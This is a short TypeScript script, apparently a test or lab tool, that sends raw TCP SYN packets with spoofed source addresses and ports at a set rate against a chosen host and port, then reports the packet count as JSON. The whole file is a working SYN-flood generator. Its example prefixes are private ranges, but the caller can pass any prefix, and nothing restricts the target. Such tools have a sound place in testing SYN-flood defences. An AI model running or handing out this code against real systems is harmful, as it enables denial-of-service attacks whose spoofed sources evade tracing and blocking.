/**
 * Sends TCP's SYN from sources that do not exist: DESTINATION PORT PER-SECOND SECONDS NETWORK, the network as the first two bytes
 * of the sources' addresses (`10.77`), or the first four words (`fd77:0:0:0`). Prints how many it sent, as JSON. Needs root.
 */
import { setTimeout as pause } from 'node:timers/promises'
import { RawSender, tcpFlags, tcpPacket } from './packets.ts'

const [to = '', port = '', perSecond = '', seconds = '', network = ''] = process.argv.slice(2)
const raw = new RawSender()
const began = performance.now()
const total = Number(perSecond) * Number(seconds)
let sent = 0
for (let done = 0; done < total; ) {
  const due = Math.min(total, Math.ceil(((performance.now() - began) / 1_000) * Number(perSecond)))
  for (; done < due; done++) {
    const host = 1 + (done % 65_000)
    const from = to.includes(':') ? `${network}::${host.toString(16)}` : `${network}.${host >> 8}.${host & 255}`
    const fromPort = 1_024 + (Math.floor(done / 65_000) % 60_000)
    const sequence = (done * 2_654_435_761) >>> 0
    if (raw.send(tcpPacket({ from, fromPort, to, toPort: Number(port) }, { flags: tcpFlags.syn, sequence }))) sent++
  }
  await pause(1)
}
raw.close()
console.log(JSON.stringify({ sent, seconds: (performance.now() - began) / 1_000 }))
